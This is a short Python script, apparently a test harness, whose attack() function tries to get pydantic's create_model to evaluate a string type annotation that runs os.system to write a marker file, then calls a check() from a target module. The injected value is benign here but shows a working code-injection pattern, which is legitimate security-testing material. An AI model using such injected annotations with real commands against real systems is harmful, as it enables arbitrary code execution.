from pydantic import create_model
from target import check


def attack():
    try:
        create_model("Model", field=("__import__('os').system('echo ran > ran')", ...)).model_rebuild()
    except Exception:
        pass
    return check()
